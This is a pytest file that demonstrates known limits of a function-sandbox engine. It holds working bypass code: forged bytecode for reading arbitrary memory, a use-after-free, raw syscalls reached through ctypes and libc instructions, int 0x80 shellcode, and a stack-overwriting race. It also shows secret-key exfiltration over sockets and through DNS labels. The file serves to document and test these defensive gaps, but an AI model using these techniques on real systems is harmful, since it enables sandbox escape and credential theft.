"""The rows of docs/security/limits.md: what the process engine does not stop is shown not to be stopped.

A row whose test starts to fail has become a promise: move it.
"""

from __future__ import annotations

import errno
import signal
import socket
import threading
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from harness.compiling import SOURCES, compile_c
from harness.elf_files import offset_of
from harness.mounting import make_places, run_mounted
from harness.running import PYTHON, SHIELD, last_line, listening, policy, prepare_tmp, run_inside, whole_sandbox
from shielded_function import ShieldPolicy
from shielded_function_emulator.dns_server import DnsServer
from shielded_function_emulator.machine import architecture
from shielded_function_emulator.sandbox import Completed, Sandbox

LOAD = "import ctypes; beyond = ctypes.CDLL('/var/task/beyond.so'); "
TMP_BLOCKED = policy(read_write_tmp="block")
x86_64 = pytest.mark.skipif(architecture() != "x86_64", reason="aarch64 has no such thing")


@pytest.fixture(scope="module")
def box(layer: Path, task: Path) -> Iterator[Sandbox]:
    make_places(task)
    target = f"{architecture()}-linux-gnu"
    for name in ("beyond", "inline", "large"):
        compile_c([SOURCES / f"{name}.c"], task / f"{name}.so", "-shared", "-fPIC", target=target)
    across = bytearray((task / "large.so").read_bytes())
    across[(1 << 20) - 6 : (1 << 20) + 2] = bytes.fromhex("b802000000 0f05 c3")  # open, and back
    (task / "across.so").write_bytes(across)
    compile_c([SOURCES / "resolver.c"], task / "resolver.so", "-shared", "-fPIC", target=target)
    compile_c([SOURCES / "resolver.c"], task / "resolver", target=target)
    compile_c([SOURCES / "overwriting.c"], task / "overwriting", "-lpthread", target=target)
    compile_c([SOURCES / "laid_text.c"], task / "laid_text", "-lpthread", "-ldl", target=target)
    target = f"{architecture()}-linux-musl"
    compile_c([SOURCES / "static_child.c"], task / "static_child", "-static", target=target)
    compile_c([SOURCES / "own_stack.c"], task / "own_stack", "-static", "-nostdlib", target=target)
    with whole_sandbox(task, layer) as sandbox:
        yield sandbox


def run(box: Sandbox, code: str, settings: Mapping[str, str]) -> Completed:
    prepare_tmp(box)
    done = box.run_command([SHIELD, PYTHON, "-S", "-c", code], environment=settings)
    assert done.returncode == 0, f"{done.returncode}: {done.stderr}"
    return done


# A constant beyond the end of the constants is an object of one's own making: a bytearray over all memory.
BYTECODE = """
import opcode, sys
p8 = lambda n: n.to_bytes(8, "little")
head = bytes.__basicsize__ - 1
fake = p8(1 << 20) + p8(id(bytearray)) + p8((1 << 63) - 1) * 2 + p8(0) * 3
pointer = p8(id(fake) + head) + b"keep"
def f(): pass
constants = (None, "x", 3.5)
i = (id(pointer) + head - id(constants) - tuple.__basicsize__) // 8 & 0xffffffff
op = opcode.opmap
f.__code__ = f.__code__.replace(co_consts=constants, co_stacksize=4, co_code=bytes([
    op["RESUME"], 0, op["EXTENDED_ARG"], i >> 24, op["EXTENDED_ARG"], i >> 16 & 255,
    op["EXTENDED_ARG"], i >> 8 & 255, op["LOAD_CONST"], i & 255, op["RETURN_VALUE"], 0]))
memory = f()
with open("/proc/self/maps") as maps:
    engine = next(int(line.split("-")[0], 16) for line in maps if line.rstrip().endswith("libshield.so"))
print(bytes(memory[engine : engine + 4]))
"""


def test_bytecode_made_by_hand_reads_the_engine(box: Sandbox) -> None:
    everything = policy(executable_memory="block", read_write_tmp="block", create_child_process="block")
    done = run(box, BYTECODE, everything)
    assert done.stdout == repr(b"\x7fELF") + "\n"
    assert [line["event"] for line in done.shield_lines] == ["armed"]


# A reader keeps none of its buffer alive for the view that it hands out.
FREED = """
import io

class Kept(io.RawIOBase):
    def readable(self):
        return True
    def readinto(self, buffer):
        global view
        view = buffer.cast("P")

reader = io.BufferedReader(Kept())
reader.read(1)
del reader
taken, other = [None] * len(view), "never put into it"
before, view[0] = view[0], id(other)
print(taken[0])
view[0] = before
"""


def test_a_freed_buffer_is_written_to(box: Sandbox) -> None:
    everything = policy(executable_memory="block", read_write_tmp="block", create_child_process="block")
    assert run(box, FREED, everything | {"SHIELD_BLOCK_FOREIGN_FUNCTIONS": "on"}).stdout == "never put into it\n"


def test_a_jump_to_an_instruction_of_libc(box: Sandbox) -> None:
    done = run(box, LOAD + "print(beyond.open_at_libc_instruction(b'/tmp/there') > 2)", TMP_BLOCKED)
    assert done.stdout == "True\n"


@x86_64
def test_ctypes_alone_goes_around_the_engine(box: Sandbox) -> None:
    """libffi puts the count of floating-point arguments into `al`, which is where the kernel looks for the call."""
    code = """
import ctypes, os
getppid = ctypes.cast(ctypes.CDLL(None).getppid, ctypes.c_void_p).value
instruction = getppid + ctypes.string_at(getppid, 32).index(bytes.fromhex("0f05c3"))  # syscall; ret
opened = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_double, ctypes.c_double)(instruction)
print(os.read(opened(b"/tmp/there", os.O_RDONLY, 0, 0), 64))  # two of them: open
"""
    done = run(box, code, TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "block"})
    assert done.stdout == "b'content'\n"


@x86_64
def test_an_instruction_inside_another(box: Sandbox) -> None:
    done = run(box, LOAD + "print(beyond.open_at_hidden_instruction(b'/tmp/there') > 2)", TMP_BLOCKED)
    assert done.stdout == "True\n"


@x86_64
def test_an_instruction_across_two_mappings(box: Sandbox) -> None:
    code = """
import ctypes, os
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
file, page = os.open("/var/task/across.so", os.O_RDONLY), ctypes.c_size_t(4096)
low = libc.mmap(None, ctypes.c_size_t(8192), 1, 2, file, 0)
for at, offset in ((low, (1 << 20) - 4096), (low + 4096, 1 << 20)):
    libc.mmap(ctypes.c_void_p(at), page, 5, 0x12, file, ctypes.c_long(offset))
print(ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_int)(low + 4090)(b"/tmp/there", 0) > 2)
"""
    assert run(box, code, TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "block"}).stdout == "True\n"


def test_code_in_executable_memory(box: Sandbox) -> None:
    code = LOAD + "print(beyond.open_in_own_code(b'/tmp/there'))"
    allowed = run(box, code, TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "allow"})
    assert int(allowed.stdout) > 2
    blocked = run(box, code, TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "block"})
    assert int(blocked.stdout) == -errno.EACCES


def test_a_listed_object_runs_what_it_is_told_to_write(box: Sandbox) -> None:
    code = LOAD + "print(beyond.open_in_own_code(b'/tmp/there'))"
    blocked = TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "block"}
    listed = run(box, code, blocked | {"SHIELD_ALLOW_EXECUTABLE_MEMORY": "beyond"})
    assert int(listed.stdout) > 2
    other = run(box, code, blocked | {"SHIELD_ALLOW_EXECUTABLE_MEMORY": "libffi,beyon,beyond2,so"})
    assert int(other.stdout) == -errno.EACCES


def test_a_signal_handler_maps_text_under_an_advice(box: Sandbox) -> None:
    """The advice was judged while nothing was there, and falls on the library that a handler mapped meanwhile."""
    blocked = TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "block"}
    prepare_tmp(box)
    done = box.run_command([SHIELD, "/var/task/laid_text", "/var/task/inline.so", "/tmp/there"], environment=blocked)
    assert done.stdout.split()[0] == "1", f"never in {done.stdout} tries: {done.stderr[-2000:]}"


@x86_64
def test_the_32_bit_way_in_where_the_kernel_has_it(layer: Path, box: Sandbox) -> None:
    code = """
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex("b814000000 cd80 c3"))  # mov $20 (getpid there), %eax; int $0x80; ret
print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
"""
    filtered = box.run_command([SHIELD, PYTHON, "-c", code], environment=TMP_BLOCKED)
    assert filtered.returncode < 0, "the filter that Lambda has ends the process"
    assert box.task is not None
    with Sandbox(task=box.task, layers=layer, filtered=False) as unfiltered:
        done = unfiltered.run_command([SHIELD, PYTHON, "-c", code], environment=TMP_BLOCKED)
    if done.returncode < 0 or int(done.stdout) < 0:
        pytest.skip(f"this kernel has no 32-bit system calls ({done.returncode}: {done.stdout})")
    assert int(done.stdout) > 0


@pytest.mark.promise("tmp.no-descriptor")
def test_a_descriptor_read_between_open_and_refusal(box: Sandbox) -> None:
    code = LOAD + "print(beyond.read_between_open_and_refusal(b'/tmp/there', 20000))"
    done = run(box, code, TMP_BLOCKED)
    assert int(done.stdout) == -1, "the object was open before it was refused"


def test_the_engines_own_data_can_be_overwritten(box: Sandbox) -> None:
    code = """
import ctypes
lines = list(open("/proc/self/maps"))
last = max(i for i, line in enumerate(lines) if "libshield" in line)
data = next(line for line in lines[last:] if "rw-p" in line)
low = int(data.split("-")[0], 16)
ctypes.memmove(low, bytes(ctypes.string_at(low, 1)), 1)
print("written")
"""
    assert run(box, code, TMP_BLOCKED).stdout == "written\n"


def test_a_listed_program_that_the_function_can_write(box: Sandbox) -> None:
    """What it runs while it is linked runs before the code of any library."""
    code = """
import os, shutil, subprocess
try: open("/tmp/mark", "w")
except PermissionError: print("denied")
os.mkdir("/tmp/allowed")
shutil.copy("/var/task/resolver", "/tmp/allowed/program")
print(subprocess.run(["/tmp/allowed/program"]).returncode)
"""
    settings = policy(read_write_tmp="block", create_child_process="block")
    settings |= {
        "SHIELD_ALLOW_CHILD_PROCESS": "/tmp/allowed/program",
        "SHIELD_ALLOW_TMP": "/tmp/allowed,/tmp/allowed/**",
    }
    assert run(box, code, settings).stdout == "denied\n0\n"
    assert (box.path("/tmp") / "mark").read_text() == "mark"


def test_a_library_decides_an_address_before_any_constructor(box: Sandbox) -> None:
    for preload in ({"LD_PRELOAD": "/var/task/resolver.so"}, {}):
        prepare_tmp(box)
        done = box.run_command([SHIELD, PYTHON, "-c", ""], environment=TMP_BLOCKED | preload)
        assert done.returncode == 0, done.stderr
        assert (box.path("/tmp") / "mark").exists() == bool(preload)


def test_another_thread_overwrites_an_address_on_the_stack(box: Sandbox) -> None:
    """The attack may be stopped between its look at the stack and its writing, and write over other data. It ends then,
    and is made again."""
    command = [SHIELD, "/var/task/overwriting", "198.51.100.9"]
    with listening(box, "198.51.100.9", 80) as server:
        runs = (box.run_command(command, environment=policy(outbound_connectivity="block")) for _ in range(10))
        done = next(run for run in runs if run.returncode != -signal.SIGSEGV)
        assert done.stdout.startswith("1 "), done.stdout + done.stderr[-2000:]
        connection, _ = server.accept()
        with connection:
            assert connection.recv(64) == b"mark"


def test_a_static_child_that_the_list_lets_run(box: Sandbox) -> None:
    code = """
import subprocess
try: print(subprocess.run(["/var/task/static_child", "/tmp/there"]).returncode)
except PermissionError: print("denied")
"""
    listed = policy(read_write_tmp="block", create_child_process="block")
    free = listed | {"SHIELD_ALLOW_CHILD_PROCESS": "unshielded:/var/task/static_child"}
    assert run(box, code, free).stdout == "0\n", "it runs without the shield, and reads /tmp"
    listed |= {"SHIELD_ALLOW_CHILD_PROCESS": "/var/task/static_child"}
    assert run(box, code, listed).stdout == "denied\n", "without that word it does not start"
    assert run(box, code, TMP_BLOCKED).stdout == "denied\n", "not even where children are allowed"


HELD = policy(read_write_tmp="block", create_child_process="block")


def limited(box: Sandbox, what: str, settings: Mapping[str, str] = HELD) -> Mapping[str, Any]:
    """What native code gets done behind the gate, by inside/kernel_limits.py."""
    prepare_tmp(box)
    return last_line(run_inside(box, "kernel_limits", what, settings=settings))


def test_the_kernels_limits_leave_names_and_bytes(box: Sandbox) -> None:
    done = limited(box, "files")
    assert done["held"] == ["file-growth", "programs"]
    passes = {name: result for name, result in done.items() if result == "done"}
    assert set(passes) == {
        *("create a file", "create a folder", "create a link", "rename a file", "delete a file", "shrink a file"),
        *("store through a mapping", "write to a pipe", "make a socket"),
    }
    assert done["blocks"] == "EPERM"  # Lambda's filter refuses fallocate


def test_the_kernels_limits_leave_small_programs(box: Sandbox) -> None:
    """One of the package that brings its own stack, and a static one to which part of a page is enough."""
    done = limited(box, "small_programs")
    assert done["held"] == ["file-growth", "programs"]
    assert done["ends"] == {"own_stack": ["7", "SIGSEGV"], "static_child": [str(errno.ENAMETOOLONG), "SIGSEGV"]}


def test_what_was_mounted_elsewhere(box: Sandbox, layer: Path) -> None:
    code = "open('/tmp/folder/new', 'w').close(); open('/var/task/memory', 'r+b').close(); print('opened')"
    command = [SHIELD, PYTHON, "-c", code]
    prepare_tmp(box)
    refused = box.run_command(command, environment=TMP_BLOCKED)
    done = run_mounted("laid_over", box, layer, command, TMP_BLOCKED)
    assert (refused.returncode, refused.stdout) == (1, ""), "without the mount"
    assert (done.returncode, done.stdout) == (0, "opened\n"), done.stderr
    command = [SHIELD, PYTHON, "-c", "open('/elsewhere/there').close(); print('opened'); open('/tmp/there')"]
    for kind in ("folder", "folder_of_layer"):
        done = run_mounted(kind, box, layer, command, TMP_BLOCKED)
        assert (done.returncode, done.stdout) == (1, "opened\n"), done.stderr


def test_a_handler_in_a_layer_of_the_root(box: Sandbox, layer: Path) -> None:
    code = """
import sys; sys.path.insert(0, "/var/task")
from ways import ask_for_work, refusal
ask_for_work()
print([refusal(lambda: open(path).close()) for path in ("/var/task/etc/there", "/elsewhere/there")])
"""
    settings = policy(read_handler="block") | {"_HANDLER": "etc/there.handler"}
    done = run_mounted("code_of_layer", box, layer, [SHIELD, PYTHON, "-c", code], settings)
    assert done.stdout == f"[{errno.EACCES}, None]\n", done.stderr


def test_a_file_changes_where_the_mount_of_root_can_be_written(box: Sandbox, layer: Path) -> None:
    library = box.path("/var/task/inline.so")
    begin = offset_of(library, "inline_open")
    code = f"""
import ctypes, os, shutil
shutil.copy("/var/task/large.so", "/elsewhere/large.so")
file, midst = os.open("/elsewhere/large.so", os.O_RDWR), 1 << 20
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
low = libc.mmap(None, ctypes.c_size_t(4096), 5, 2, file, ctypes.c_long(midst))
os.pwrite(file, bytes.fromhex("{library.read_bytes()[begin : begin + 128].hex()}"), midst)
print(ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p)(low)(b"/tmp/there") > 2)
"""
    settings = TMP_BLOCKED | {"SHIELD_EXECUTABLE_MEMORY": "block"}
    done = run_mounted("apart", box, layer, [SHIELD, PYTHON, "-c", code], settings)
    assert (done.returncode, done.stdout) == (0, "True\n"), done.stderr


def test_what_is_open_by_design(box: Sandbox) -> None:
    """Listening; looking at the names of /tmp; what was opened before the handler was locked."""
    prepare_tmp(box)
    code = """
import os, socket, sys; sys.path.insert(0, "/var/task")
from ways import ask_for_work, refusal
handler = open("/var/task/app.py")
ask_for_work()
print(refusal(lambda: open("/var/task/app.py").close()), len(handler.read()) > 0)
print(os.stat("/tmp/there").st_size, os.readlink("/tmp/link"), os.path.exists("/tmp/missing"))
print(socket.create_server(("0.0.0.0", 8080)).getsockname())
"""
    settings = policy(outbound_connectivity="block", read_write_tmp="block", read_handler="block")
    done = run(box, code, settings | {"_HANDLER": "app.handler"})
    expected = [f"{errno.EACCES} True", "7 /etc/resolv.conf False", "('0.0.0.0', 8080)"]
    assert done.stdout.splitlines() == expected, done.stderr


def test_a_function_can_always_answer_and_log(box: Sandbox) -> None:
    """Its own keys, read and sent by its log, its response and its traces: nothing is refused, and nothing reported."""
    code = """
import os, socket
key = os.environ["AWS_SECRET_ACCESS_KEY"]
with open("/proc/self/environ") as file:
    print(key in file.read(), key)
server = socket.create_server(("127.0.0.1", 0))
with socket.create_connection(server.getsockname()) as client:
    client.sendall(b"POST /2018-06-01/runtime/invocation/1/response HTTP/1.1\\r\\nX-Trace: " + key.encode())
    print(key.encode() in server.accept()[0].recv(4096))
traces = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    print(traces.sendto(key.encode(), ("169.254.100.1", 2000)))
except OSError as error:
    print(error.errno)
"""
    controls = ("outbound_connectivity", "read_write_tmp", "create_child_process", "read_handler", "executable_memory")
    settings = policy(**dict.fromkeys(controls, "block"))
    settings |= {"AWS_SECRET_ACCESS_KEY": "secret", "AWS_XRAY_DAEMON_ADDRESS": "169.254.100.1:2000"}
    done = run(box, code, settings)
    # The sandbox has no route to the daemon: the kernel says so, and the shield nothing.
    assert done.stdout.splitlines() == ["True secret", "True", str(errno.ENETUNREACH)], done.stderr
    assert '"policy"' not in done.stderr


def test_local_sockets_are_open(box: Sandbox) -> None:
    prepare_tmp(box)
    server = box.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind("\0forwarder")
    server.listen()
    heard: list[bytes] = []
    thread = threading.Thread(target=lambda: heard.append(server.accept()[0].recv(64)))
    thread.start()
    run(box, "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0forwarder'); s.send(b'secret')",
        policy(outbound_connectivity="block"))  # fmt: skip
    thread.join(10)
    server.close()
    assert heard == [b"secret"]


def test_labels_under_an_allowed_wildcard(box: Sandbox) -> None:
    settings = policy(outbound_connectivity="block") | {"SHIELD_ALLOW_OUTBOUND": "*.partner.example"}
    with DnsServer(box, {"*.partner.example": ["203.0.113.9"]}) as server:
        run(box, "import socket; socket.getaddrinfo('c2VjcmV0.partner.example', 443)", settings)
        assert server.asked("c2vjcmv0")


def test_a_bucket_of_somebody_else() -> None:
    """Host names say which service is spoken to, not whose bucket."""
    everything, one_service = ShieldPolicy(), ShieldPolicy(allow_aws=["dynamodb"])
    foreign = "somebody-elses-bucket.s3.us-east-1.amazonaws.com"
    assert everything.decide("resolve", foreign).action == "allow"
    assert one_service.decide("resolve", foreign).action == "deny"
